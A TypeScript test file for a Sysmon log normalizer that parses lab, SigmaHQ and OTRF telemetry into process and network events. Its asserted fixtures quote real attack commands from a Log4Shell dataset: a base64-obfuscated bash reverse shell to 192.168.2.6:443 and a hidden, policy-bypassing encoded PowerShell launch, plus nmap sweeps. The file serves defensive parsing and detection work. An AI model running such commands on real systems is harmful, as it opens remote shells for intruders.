/**
 * Sysmon normalizer: real records in each shape shippers write (lab flat JSON, SigmaHQ evtx_dump
 * JSON, OTRF Sentinel WindowsEvent rows and Sysmon-for-Linux XML in Syslog rows), invented ones
 * for the shapes no permissively licensed sample has, the XML extractor on its own, and every
 * real Sysmon record under ../shared/data when that folder is present.
 */
import t from 'tap'
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { ProcessEvent } from '../lib/model.js'
import { isEcsEndpointRecord } from '../lib/parse/ecs-endpoint.js'
import {
  baseName, isSysmonRecord, MAX_SYSMON_XML_LENGTH, parseSysmonXml, pathOs, sameProcessGuid, sysmonToEvent, unescapeXml
} from '../lib/parse/sysmon.js'
import type { RecordContext } from '../lib/parse/zeek.js'

type Rec = Record<string, unknown>

const fixturePath = (name: string): string => fileURLToPath(new URL(`./fixtures/telemetry/${name}`, import.meta.url))
const lines = (name: string): string[] => readFileSync(fixturePath(name), 'utf8').split('\n').filter(l => l.length > 0)
const ctx = (line: number, input = 'test'): RecordContext => ({ input, line, format: 'zeek-json', communityIdSeed: 0 })

/** Normalizes line `n` (1-based) of a JSON-lines fixture; fails the test on a reason string. */
function eventAt (name: string, n: number): ProcessEvent {
  const text = lines(name)[n - 1]
  const r = JSON.parse(text) as Rec
  const ev = sysmonToEvent(r, ctx(n, name), text)
  if (typeof ev === 'string') throw new Error(`${name}:${n}: ${ev}`)
  return ev
}

function reasonAt (name: string, n: number): string {
  const r = JSON.parse(lines(name)[n - 1]) as Rec
  const ev = sysmonToEvent(r, ctx(n, name))
  if (typeof ev !== 'string') throw new Error(`${name}:${n}: expected a reason, got an event`)
  return ev
}

/** Epoch milliseconds of an event time, rounded (times are asserted to the millisecond). */
const ms = (seconds: number | undefined): number | undefined => seconds === undefined ? undefined : Math.round(seconds * 1000)

t.test('lab sysmon.jsonl (flat, Sysmon for Linux via nxlog)', async t => {
  const name = 'lab-s02-sysmon.jsonl'
  const all = lines(name)
  t.equal(all.length, 10)
  for (const [i, text] of all.entries()) {
    const r = JSON.parse(text) as Rec
    t.ok(isSysmonRecord(r), `line ${i + 1} recognised`)
    t.notOk(isEcsEndpointRecord(r), `line ${i + 1} not ECS`)
  }

  const bash = eventAt(name, 1)
  t.equal(bash.category, 'process')
  t.equal(bash.sensor, 'sysmon')
  t.equal(bash.format, 'sysmon')
  t.equal(bash.kind, 'sysmon:1')
  t.equal(bash.action, 'start')
  t.equal(bash.input, name)
  t.equal(bash.line, 1)
  t.equal(bash.raw, all[0])
  t.same(bash.original, JSON.parse(all[0]))
  t.same(bash.scantag, {})
  t.equal(ms(bash.time), Date.UTC(2026, 10, 26, 19, 38, 57, 1))
  t.same(bash.host, { name: 'lnx-ws-041', os: 'linux' })
  t.same(bash.process, {
    pid: 31200,
    entityId: '{da57fbbf-8ad0-6b08-396b-91f675ca0000}',
    executable: '/usr/bin/bash',
    name: 'bash',
    commandLine: '-bash --noprofile --norc',
    args: ['-bash', '--noprofile', '--norc'],
    user: 'dlee',
    workingDirectory: '/home/dlee',
    start: bash.time,
    // ParentProcessGuid is the all-zero GUID and ParentImage "-": only the pid is known.
    parent: { pid: 31199 }
  })

  const fping = eventAt(name, 3)
  t.equal(fping.process.pid, 31212)
  t.equal(fping.process.commandLine, 'fping -a -q -r 1 -g 10.1.2.0/24')
  t.same(fping.process.args, ['fping', '-a', '-q', '-r', '1', '-g', '10.1.2.0/24'])
  t.same(fping.process.parent, {
    pid: 31200,
    entityId: '{da57fbbf-8ad0-6b08-396b-91f675ca0000}',
    executable: '/usr/bin/bash',
    name: 'bash',
    commandLine: '-bash --noprofile --norc'
  })
  t.equal(ms(fping.time), Date.UTC(2026, 10, 26, 19, 39, 1, 9))

  const nmap = eventAt(name, 4)
  t.equal(nmap.process.entityId, '{da57fbbf-8ae0-6b08-882f-edf0241f0000}')
  t.same(nmap.process.args, ['nmap', '-n', '-Pn', '-sT', '-p', '80', '--open', '-oG', 'web-hosts.gnmap', '10.1.2.0/24'])
  t.equal(nmap.process.parent?.executable, '/usr/bin/bash')

  const conn = eventAt(name, 5)
  t.equal(conn.kind, 'sysmon:3')
  t.equal(conn.action, 'connect')
  t.equal(ms(conn.time), Date.UTC(2026, 10, 26, 19, 39, 12, 121))
  t.same(conn.socket, { transport: 'tcp', local: { ip: '10.20.30.41', port: 50990 }, remote: { ip: '10.1.2.1', port: 80 } })
  t.same(conn.process, {
    pid: 31242,
    entityId: nmap.process.entityId,
    executable: '/usr/bin/nmap',
    name: 'nmap',
    user: 'dlee'
  })
  t.equal(eventAt(name, 7).socket?.remote?.ip, '10.1.2.245')

  // sudo → nmap -sS: the child's parent is the sudo process, by pid and GUID.
  const sudo = eventAt(name, 8)
  const syn = eventAt(name, 9)
  t.equal(sudo.process.name, 'sudo')
  t.equal(syn.process.user, 'root')
  t.equal(syn.process.parent?.pid, sudo.process.pid)
  t.equal(syn.process.parent?.entityId, sudo.process.entityId)
  t.equal(syn.process.parent?.commandLine, sudo.process.commandLine)
  t.same(syn.process.args, ['nmap', '-n', '-Pn', '-sS', '-T4', '-p', '22,80,443,445,3389', '--open', '-oA', 'sweep-10.1.2', '10.1.2.0/24'])
  t.same(eventAt(name, 10).process.args, ['/usr/bin/clear_console', '-q'])
})

t.test('SigmaHQ evtx_dump JSON (one pretty-printed document per file)', async t => {
  const grixbaName = 'sigmahq-grixba-recon-af688c76.json'
  const grixbaRec = JSON.parse(readFileSync(fixturePath(grixbaName), 'utf8')) as Rec
  t.ok(isSysmonRecord(grixbaRec))
  const g = sysmonToEvent(grixbaRec, ctx(1, grixbaName))
  if (typeof g === 'string') throw new Error(g)
  t.equal(g.kind, 'sysmon:1')
  t.equal(g.action, 'start')
  t.notOk('raw' in g, 'no raw when none is given')
  // UtcTime (05:11:27.908) is the event time, not the later SystemTime (05:11:27.927693).
  t.equal(ms(g.time), Date.UTC(2025, 10, 26, 5, 11, 27, 908))
  t.same(g.host, { name: 'swachchhanda', os: 'windows' })
  t.same(g.process, {
    pid: 10116,
    entityId: '0197231E-8BFF-6926-1308-000000000D00', // evtx_dump writes GUIDs without braces
    executable: 'C:\\Users\\xodih\\Downloads\\GRB_NET.exe',
    name: 'GRB_NET.exe',
    commandLine: 'GRB_NET.exe  -m:scan -i:f -d:list.txt',
    args: ['GRB_NET.exe', '-m:scan', '-i:f', '-d:list.txt'],
    user: 'swachchhanda\\xodih',
    workingDirectory: 'C:\\Users\\xodih\\Downloads\\',
    start: g.time,
    parent: {
      pid: 7972,
      entityId: '0197231E-A1BD-6925-C705-000000000D00',
      executable: 'C:\\Windows\\System32\\cmd.exe',
      name: 'cmd.exe',
      commandLine: '"C:\\WINDOWS\\system32\\cmd.exe"'
    }
  })

  const fileName = 'sigmahq-advanced-ip-scanner-file-event-fed85bf9.json'
  const fileRec = JSON.parse(readFileSync(fixturePath(fileName), 'utf8')) as Rec
  t.ok(isSysmonRecord(fileRec))
  const f = sysmonToEvent(fileRec, ctx(1, fileName))
  if (typeof f === 'string') throw new Error(f)
  t.equal(f.kind, 'sysmon:11')
  t.equal(f.action, 'other', 'other event IDs are kept')
  t.equal(f.socket, undefined)
  t.equal(ms(f.time), Date.UTC(2025, 9, 24, 23, 36, 29, 110))
  t.same(f.host, { name: 'ar-win-dc.attackrange.local', os: 'windows' })
  t.same(f.process, {
    pid: 5624,
    entityId: '5AA13A44-0D74-68FC-EB1D-000000004002',
    executable: 'C:\\Users\\ADMINI~1\\AppData\\Local\\Temp\\is-3C3LU.tmp\\Advanced_IP_Scanner_2.5.4594.1(1).tmp',
    name: 'Advanced_IP_Scanner_2.5.4594.1(1).tmp',
    user: 'ATTACKRANGE\\Administrator'
  })
})

t.test('OTRF Sentinel WindowsEvent rows (EventData as a JSON string)', async t => {
  const name = 'otrf-log4shell-windowsevent-sysmon.json'
  for (const text of lines(name)) t.ok(isSysmonRecord(JSON.parse(text) as Rec))

  // Inbound (Initiated "false"): Sysmon's Destination is the local listener.
  const inbound = eventAt(name, 1)
  t.equal(inbound.kind, 'sysmon:3')
  t.equal(inbound.action, 'accept')
  t.equal(ms(inbound.time), Date.UTC(2022, 4, 13, 8, 54, 5, 123), '7-digit fraction with Z')
  t.same(inbound.socket, { transport: 'tcp', local: { ip: '192.168.2.5', port: 8080 }, remote: { ip: '192.168.3.5', port: 50452 } })
  t.same(inbound.process, {
    pid: 3936,
    entityId: '{f3329a35-1c6c-627e-e516-000000000600}',
    executable: 'C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\bin\\tomcat9.exe',
    name: 'tomcat9.exe',
    user: 'NT AUTHORITY\\LOCAL SERVICE'
  })
  t.same(inbound.host, { name: 'WORKSTATION5', os: 'windows' })

  const outbound = eventAt(name, 2)
  t.equal(outbound.action, 'connect')
  t.same(outbound.socket, { transport: 'tcp', local: { ip: '192.168.2.5', port: 54217 }, remote: { ip: '169.254.169.254', port: 80 } })

  const end = eventAt(name, 3)
  t.equal(end.kind, 'sysmon:5')
  t.equal(end.action, 'end')
  t.equal(end.process.pid, 7716)
  t.equal(end.process.entityId, outbound.process.entityId, 'the end event names the process that connected')
  t.equal(ms(end.time), Date.UTC(2022, 4, 13, 8, 54, 7, 486))

  const ps = eventAt(name, 4)
  t.equal(ps.action, 'start')
  t.equal(ps.process.pid, 2084)
  t.equal(ps.process.user, 'NT AUTHORITY\\LOCAL SERVICE')
  t.same(ps.process.args?.slice(0, 8), ['powershell.exe', '-NonI', '-W', 'Hidden', '-NoP', '-Exec', 'Bypass', '-Enc'])
  t.equal(ps.process.args?.length, 9)
  t.ok(ps.process.args?.[8].startsWith('SQBmACgAJABQAFMAVgBlAHIAcwBpAG8Ab'))
  t.same(ps.process.parent, {
    pid: 3936,
    entityId: '{f3329a35-1c6c-627e-e516-000000000600}',
    executable: 'C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\bin\\tomcat9.exe',
    name: 'tomcat9.exe',
    commandLine: 'C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\bin\\Tomcat9.exe //RS//Tomcat9'
  })
  t.equal(ps.process.workingDirectory, 'C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\')

  // Event 10 (ProcessAccess): kept as `other`, the acting process from the Source* fields.
  const access = eventAt(name, 5)
  t.equal(access.kind, 'sysmon:10')
  t.equal(access.action, 'other')
  t.same(access.process, {
    pid: 3936,
    entityId: '{f3329a35-1c6c-627e-e516-000000000600}',
    executable: 'C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\bin\\Tomcat9.exe',
    name: 'Tomcat9.exe'
  })

  const conhost = eventAt(name, 6)
  t.equal(conhost.process.commandLine, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1')
  t.same(conhost.process.args, ['\\??\\C:\\Windows\\system32\\conhost.exe', '0xffffffff', '-ForceV1'])
  t.equal(conhost.process.parent?.entityId, ps.process.entityId)
  t.equal(ms(conhost.time), Date.UTC(2022, 4, 13, 8, 54, 8, 513))

  // EventData already parsed into an object gives the same event.
  const r = JSON.parse(lines(name)[3]) as Rec
  const asObject = sysmonToEvent({ ...r, EventData: JSON.parse(r.EventData as string) }, ctx(4, name))
  if (typeof asObject === 'string') throw new Error(asObject)
  t.same(asObject.process, ps.process)
  t.equal(asObject.time, ps.time)
})

t.test('OTRF Sysmon for Linux XML in Sentinel Syslog rows', async t => {
  const name = 'otrf-log4shell-syslog-sysmon.json'
  for (const text of lines(name)) t.ok(isSysmonRecord(JSON.parse(text) as Rec))

  const end = eventAt(name, 1)
  t.equal(end.kind, 'sysmon:5')
  t.equal(end.action, 'end')
  t.equal(ms(end.time), Date.UTC(2022, 4, 11, 18, 10, 20, 395))
  t.same(end.host, { name: 'UBUNTU5', ips: ['192.168.2.5'], os: 'linux' })
  t.same(end.process, { pid: 1774, entityId: '{94325212-f5aa-627b-082b-60e4b9550000}', executable: 'wdavdaemon', name: 'wdavdaemon', user: 'root' })

  const conn = eventAt(name, 2)
  t.equal(conn.action, 'connect')
  t.equal(ms(conn.time), Date.UTC(2022, 4, 11, 18, 10, 20, 472))
  t.same(conn.socket, { transport: 'tcp', local: { ip: '192.168.2.5', port: 51492 }, remote: { ip: '104.46.127.225', port: 443 } })
  t.equal(conn.process.executable, '/opt/microsoft/mdatp/sbin/wdavdaemon')

  const file = eventAt(name, 3)
  t.equal(file.kind, 'sysmon:11')
  t.equal(file.action, 'other')
  t.equal(file.process.name, 'java')

  const bash = eventAt(name, 4)
  t.equal(bash.action, 'start')
  t.equal(bash.process.pid, 17790)
  t.equal(bash.process.commandLine, 'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}')
  t.same(bash.process.args, ['bash', '-c', '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}'])
  t.equal(bash.process.user, 'tomcat')
  t.equal(bash.process.workingDirectory, '/')
  t.equal(bash.process.parent?.pid, 1340)
  t.equal(bash.process.parent?.entityId, '{94325212-f5a5-627b-b809-87f375550000}')
  t.equal(bash.process.parent?.executable, '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java')
  // This message was cut at 2012 characters inside ParentCommandLine (syslog size limit): the
  // fields that are complete are kept, the cut one is left out rather than read half.
  t.notOk(JSON.parse(lines(name)[3]).SyslogMessage.endsWith('</Event>'), 'the source record is truncated')
  t.equal(bash.process.parent?.commandLine, undefined)

  // "&lt unknown process&gt " (Sysmon for Linux writes a space for the ';'): `<unknown process>`, not an image.
  const unknown = eventAt(name, 5)
  t.equal(unknown.action, 'end')
  t.same(unknown.process, { pid: 17792, entityId: '{94325212-fc0e-627b-0000-000000000000}', user: 'tomcat' })

  // "&quot SELECT ...&quot  | grep": the quotes come back, and the POSIX splitter honours them.
  const omi = eventAt(name, 6)
  t.equal(omi.process.commandLine, 'sh -c /opt/omi/bin/omicli wql root/scx "SELECT PercentUserTime, PercentPrivilegedTime, UsedMemory, PercentUsedMemory FROM SCX_UnixProcessStatisticalInformation where Handle=\'2030\'" | grep =')
  t.same(omi.process.args, ['sh', '-c', '/opt/omi/bin/omicli', 'wql', 'root/scx',
    'SELECT PercentUserTime, PercentPrivilegedTime, UsedMemory, PercentUsedMemory FROM SCX_UnixProcessStatisticalInformation where Handle=\'2030\'',
    '|', 'grep', '='])
  t.same(omi.process.parent, { pid: 2030 })
})

t.test('invented shapes: winlogbeat, nxlog Windows, Sentinel Event XML, XML in syslog, Data lists', async t => {
  const name = 'invented-sysmon-variants.ndjson'
  for (const [i, text] of lines(name).entries()) t.ok(isSysmonRecord(JSON.parse(text) as Rec), `line ${i + 1} recognised`)

  const wlb = eventAt(name, 1)
  t.equal(wlb.kind, 'sysmon:1')
  t.equal(ms(wlb.time), Date.UTC(2025, 9, 23, 10, 11, 5, 401))
  t.same(wlb.host, { name: 'win-lab-07.lab.example', os: 'windows' })
  t.equal(wlb.process.entityId, '{8A1B7C3D-0F4E-4B6A-9C2D-5E7F1A3B9C10}')
  t.same(wlb.process.args, ['C:\\Program Files (x86)\\Advanced Port Scanner\\advanced_port_scanner.exe', '/portable', 'C:\\Users\\analyst\\Desktop\\aps'])
  t.equal(wlb.process.user, 'LAB\\analyst')
  t.equal(wlb.process.parent?.name, 'explorer.exe')

  const dotted = eventAt(name, 2)
  t.equal(dotted.kind, 'sysmon:3')
  t.equal(dotted.action, 'accept', 'Initiated false (a JSON boolean)')
  t.same(dotted.socket, { transport: 'udp', local: { ip: '192.0.2.57', port: 161 }, remote: { ip: '192.0.2.200', port: 53533 } })
  t.equal(dotted.host.name, 'win-lab-07.lab.example')

  const v6 = eventAt(name, 3)
  t.equal(v6.action, 'connect')
  t.same(v6.socket, { transport: 'tcp', local: { ip: '2001:db8::57', port: 50123 }, remote: { ip: '2001:db8::1', port: 3389 } })
  t.equal(v6.process.pid, 6204)

  const sentinelXml = eventAt(name, 4)
  t.equal(sentinelXml.kind, 'sysmon:1')
  t.equal(sentinelXml.process.commandLine, 'nmap.exe -p "1-1024" 192.0.2.0/24')
  t.same(sentinelXml.process.args, ['nmap.exe', '-p', '1-1024', '192.0.2.0/24'])
  t.same(sentinelXml.host, { name: 'win-lab-07.lab.example', os: 'windows' })

  const xmlSyslog = eventAt(name, 5)
  t.same(xmlSyslog.host, { name: 'win-lab-07.lab.example', ips: ['192.0.2.57'], os: 'windows' }, 'Windows provider, though wrapped in syslog')
  t.equal(xmlSyslog.process.commandLine, 'nmap.exe -sS -p "1-1024" --script="banner,http-title" 192.0.2.0/24 && echo <done> \u2714')
  t.same(xmlSyslog.process.args, ['nmap.exe', '-sS', '-p', '1-1024', '--script=banner,http-title', '192.0.2.0/24', '&&', 'echo', '<done>', '\u2714'])
  t.equal(xmlSyslog.process.parent?.commandLine, '"C:\\Windows\\system32\\cmd.exe" ')

  const dataList = eventAt(name, 6)
  t.equal(dataList.kind, 'sysmon:5', 'EventID given as {"#text": "5"}')
  t.equal(dataList.action, 'end')
  t.equal(ms(dataList.time), Date.UTC(2025, 9, 23, 10, 20, 0, 120))
  t.equal(dataList.process.executable, 'C:\\Tools\\nmap\\nmap.exe')

  const service = eventAt(name, 7)
  t.equal(service.kind, 'sysmon:4')
  t.equal(service.action, 'other')
  t.same(service.process, {}, 'an event without a process is kept')

  t.equal(reasonAt(name, 8), 'Sysmon event 1 has no ProcessId or ProcessGuid')
  t.equal(reasonAt(name, 9), 'UtcTime "yesterday" is not a UTC timestamp')
  t.equal(reasonAt(name, 10), 'Sysmon event 3: no DestinationIp')
  t.equal(reasonAt(name, 11), 'EventData is a string but not valid JSON')
})

t.test('reasons for records that cannot be events', async t => {
  const c = ctx(1)
  const base = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', UtcTime: '2025-10-23 10:11:05.401', ProcessId: '6204' }
  t.equal(sysmonToEvent({ Channel: 'Microsoft-Windows-Sysmon/Operational', ProcessId: '1' }, c), 'Sysmon record has no EventID')
  t.equal(sysmonToEvent({ ...base, EventID: 'one' }, c), 'EventID "one" is not a Sysmon event number')
  t.equal(sysmonToEvent({ ...base, ProcessId: '12ab' }, c), 'Sysmon event 1: ProcessId "12ab" is not a number')
  t.equal(sysmonToEvent({ ...base, ProcessId: -3 }, c), 'Sysmon event 1: ProcessId -3 is not a number')
  t.equal(sysmonToEvent({ ...base, ParentProcessId: 'x' }, c), 'Sysmon event 1: ParentProcessId "x" is not a number')
  t.equal(sysmonToEvent({ ...base, EventID: 5, ProcessId: undefined }, c), 'Sysmon event 5 has no ProcessId or ProcessGuid')
  t.equal(sysmonToEvent({ ...base, EventID: 3, SourceIp: '192.0.2.1', SourcePort: 'http', DestinationIp: '192.0.2.2' }, c),
    'Sysmon event 3: SourcePort "http" is not a port number')
  t.equal(sysmonToEvent({ ...base, EventID: 3, SourceIp: '192.0.2.1', DestinationIp: '192.0.2.2', DestinationPort: 70000 }, c),
    'Sysmon event 3: DestinationPort 70000 is not a port number')
  t.equal(sysmonToEvent({ ...base, EventID: 3, DestinationIp: '192.0.2.2' }, c), 'Sysmon event 3: no SourceIp')
  t.equal(sysmonToEvent({ EventID: 1, Provider: 'Microsoft-Windows-Sysmon', EventData: 42 }, c), 'EventData is neither an object nor a string')
  t.equal(sysmonToEvent({ EventID: 1, Provider: 'Microsoft-Windows-Sysmon', EventData: '[1]' }, c), 'EventData is a string but neither JSON nor XML')
  t.equal(sysmonToEvent({ Event: { System: { EventID: 1, TimeCreated: { '#attributes': { SystemTime: 'soon' } } }, EventData: { ProcessId: 1 } } }, c),
    'SystemTime "soon" is not an ISO 8601 time')
  const long = '<Event><System><EventID>1</EventID></System>' + ' '.repeat(MAX_SYSMON_XML_LENGTH) + '</Event>'
  t.equal(sysmonToEvent({ SyslogMessage: long }, c), `Sysmon XML is ${long.length} characters long, more than ${MAX_SYSMON_XML_LENGTH}`)
  t.equal(sysmonToEvent({ SyslogMessage: '<Event><System></System><EventData></EventData></Event>' }, c), 'Sysmon record has no EventID')
  // Other event IDs without ProcessId are fine; a time falls back to SystemTime/TimeGenerated.
  const noUtc = sysmonToEvent({ EventID: 16, Provider: 'Microsoft-Windows-Sysmon', TimeGenerated: '2025-10-23T10:00:00.5Z', EventData: '{"Configuration":"C:\\\\sysmon.xml"}' }, c)
  if (typeof noUtc === 'string') throw new Error(noUtc)
  t.equal(noUtc.kind, 'sysmon:16')
  t.equal(ms(noUtc.time), Date.UTC(2025, 9, 23, 10, 0, 0, 500))
  t.same(noUtc.process, {})
})

t.test('XML extractor', async t => {
  t.equal(unescapeXml('a &lt;b&gt; &amp;&amp; &quot;c&quot; &apos;d&apos;'), 'a <b> && "c" \'d\'')
  t.equal(unescapeXml('&#60;&#x3C;&#X3c;&#128512;'), '<<<\u{1F600}')
  t.equal(unescapeXml('&foo; &#xD800; &#0; &#; &#x; & alone &lt'), '&foo; &#xD800; &#0; &#; &#x; & alone &lt', 'unknown or invalid references are kept')
  t.equal(unescapeXml('&lt unknown process&gt '), '<unknown process>', 'Sysmon for Linux 1.0 entities')
  t.equal(unescapeXml('&amp;lt;'), '&lt;', 'decoded once')
  t.equal(unescapeXml('no entities'), 'no entities')

  const x = parseSysmonXml(
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Linux-Sysmon' Guid='{x}'/>" +
    '<EventID Qualifiers="0"> 3 </EventID><TimeCreated SystemTime="2022-05-11T18:10:20.465735000Z"/><Computer>h&amp;1</Computer>' +
    '<Channel>Linux-Sysmon/Operational</Channel></System><EventData>' +
    '<Data Name="Empty"/><Data Name="Blank"></Data><DataX Name="Not">no</DataX>' +
    '<Data Name="Quoted" Extra="a > b">x</Data><Data Name="CD"><![CDATA[a </Data> & b]]>!</Data>' +
    '<Data Name = "Spaced" >y &lt;z&gt;</Data>' +
    '</EventData></Event>')
  if (typeof x === 'string') throw new Error(x)
  t.equal(x.eventId, '3')
  t.equal(x.systemTime, '2022-05-11T18:10:20.465735000Z')
  t.equal(x.computer, 'h&1')
  t.equal(x.provider, 'Linux-Sysmon')
  t.equal(x.channel, 'Linux-Sysmon/Operational')
  t.same({ ...x.data }, { Empty: '', Blank: '', Quoted: 'x', CD: 'a </Data> & b!', Spaced: 'y <z>' })

  t.equal(parseSysmonXml('<Events/>'), 'no <Event> element in the Sysmon XML')
  t.match(parseSysmonXml('<Event>' + 'x'.repeat(MAX_SYSMON_XML_LENGTH) + '</Event>'), /more than/)

  // Hostile input stays linear: each of these would be quadratic (or worse) with naive scanning.
  const started = Date.now()
  const many = '<Event><EventData>' + '<Data Name="a">x</Data>'.repeat(10000) + '</EventData></Event>'
  const r1 = parseSysmonXml(many)
  t.equal(typeof r1, 'object')
  parseSysmonXml('<Event><EventData><Data Name="a">' + '&'.repeat(200000) + '</Data></EventData></Event>')
  parseSysmonXml('<Event><EventData><Data Name="a">' + '&l'.repeat(100000) + '</Data></EventData></Event>')
  parseSysmonXml('<Event><EventData>' + '<Data Name="a"><![CDATA[x]]></Data>'.repeat(6000) + '</EventData></Event>')
  parseSysmonXml('<Event><EventData>' + '<Data Name="'.repeat(20000) + '</EventData></Event>')
  parseSysmonXml('<Event>' + '<Data'.repeat(40000))
  t.ok(Date.now() - started < 2000, `hostile inputs parsed in ${Date.now() - started} ms`)
})

t.test('helpers', async t => {
  t.equal(baseName('C:\\Windows\\System32\\cmd.exe'), 'cmd.exe')
  t.equal(baseName('/usr/bin/nmap'), 'nmap')
  t.equal(baseName('C:/tools/nmap.exe'), 'nmap.exe')
  t.equal(baseName('wdavdaemon'), 'wdavdaemon')
  t.equal(pathOs('C:\\x'), 'windows')
  t.equal(pathOs('c:/x'), 'windows')
  t.equal(pathOs('\\??\\C:\\x'), 'windows')
  t.equal(pathOs('/usr/bin/x'), 'linux')
  t.equal(pathOs('x.exe'), undefined)
  t.ok(sameProcessGuid('{0197231E-8BFF-6926-1308-000000000D00}', '0197231e-8bff-6926-1308-000000000d00'))
  t.notOk(sameProcessGuid('{0197231E-8BFF-6926-1308-000000000D00}', '{0197231E-8BFF-6926-1308-000000000D01}'))
})

t.test('recognition', async t => {
  t.notOk(isSysmonRecord({ ts: 1, uid: 'C1', 'id.orig_h': '10.0.0.1' }), 'Zeek')
  t.notOk(isSysmonRecord({ timestamp: '2026-01-01T00:00:00Z', event_type: 'flow' }), 'EVE')
  t.notOk(isSysmonRecord({ Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing' } }, EventID: 4688, Channel: 'Security' }, EventData: { NewProcessId: '0x1' } } }), 'Security 4688 evtx')
  t.notOk(isSysmonRecord({ EventID: 4688, Provider: 'Microsoft-Windows-Security-Auditing', EventData: '{}' }), 'Sentinel Security event')
  t.notOk(isSysmonRecord({ winlog: { event_id: '3', provider_name: 'Microsoft-Windows-Sysmon', event_data: { SourceIsIpv6: 'false' } }, process: { pid: 1 } }),
    'winlogbeat after the Sysmon pipeline (event_data moved to ECS) is ECS data')
  t.notOk(isSysmonRecord({ SyslogMessage: 'sshd[1]: Accepted publickey for x' }), 'other syslog')
  t.notOk(isSysmonRecord({ SyslogMessage: '<Event><System><Provider Name="auoms"/></System></Event>' }), 'XML from another provider')
  t.ok(isSysmonRecord({ EventID: '1', UtcTime: '2025-10-23 10:11:05.401', ProcessGuid: '{x}' }), 'flat without channel names')
  t.ok(isSysmonRecord({ message: 'Linux-Sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID></System></Event>' }), 'XML after a syslog tag')
})

/** ../shared/data relative to the project root (the folder is not in the repository). */
const sharedData = fileURLToPath(new URL('../../shared/data', import.meta.url))

function walk (dir: string, out: string[] = []): string[] {
  for (const f of readdirSync(dir)) {
    const p = join(dir, f)
    if (statSync(p).isDirectory()) walk(p, out)
    else out.push(p)
  }
  return out
}

t.test('every real Sysmon record under ../shared/data', { skip: existsSync(sharedData) ? false : 'shared data absent' }, async t => {
  const files = walk(sharedData).filter(p =>
    (p.includes('/sigmahq-regression-data/') && p.endsWith('.json')) ||
    /\/log4shell\/(syslog_)?sysmon_[^/]*\.json$/.test(p) ||
    p.endsWith('/host/sysmon.jsonl')).sort()
  t.ok(files.length >= 12, `${files.length} files`)
  let records = 0
  const reasons: string[] = []
  const byKind: Record<string, number> = {}
  for (const file of files) {
    const text = readFileSync(file, 'utf8')
    const recs: Array<[number, Rec]> = file.includes('/sigmahq-regression-data/')
      ? [[1, JSON.parse(text) as Rec]]
      : text.split('\n').map((l, i): [number, string] => [i + 1, l]).filter(([, l]) => l.trim().length > 0).map(([n, l]) => [n, JSON.parse(l) as Rec])
    for (const [n, r] of recs) {
      records++
      if (!isSysmonRecord(r)) reasons.push(`${file}:${n}: not recognised`)
      if (isEcsEndpointRecord(r)) reasons.push(`${file}:${n}: claimed as ECS`)
      const ev = sysmonToEvent(r, ctx(n, file))
      if (typeof ev === 'string') { reasons.push(`${file}:${n}: ${ev}`); continue }
      if (ev.time === undefined) reasons.push(`${file}:${n}: no time`)
      if (ev.host.os === undefined) reasons.push(`${file}:${n}: no host OS`)
      const key = `${ev.kind} ${ev.action} ${ev.host.os ?? '?'}`
      byKind[key] = (byKind[key] ?? 0) + 1
    }
  }
  t.same(reasons, [], 'no dead letters, every record recognised, timed and placed on an OS')
  t.comment(`${records} records in ${files.length} files: ${JSON.stringify(byKind)}`)
  t.ok(records >= 9000, `${records} records`)
})
